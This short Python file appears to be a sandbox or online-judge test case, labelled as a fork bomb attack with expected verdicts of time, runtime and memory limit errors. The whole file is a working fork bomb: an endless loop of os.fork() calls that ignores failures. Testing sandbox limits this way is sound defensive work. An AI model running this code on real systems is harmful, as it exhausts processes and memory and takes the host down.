# attack: fork bomb
# verdict: TLE RTE MLE
# The kernel frees what a refused fork took only later: on a busy machine that reaches the memory limit first.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
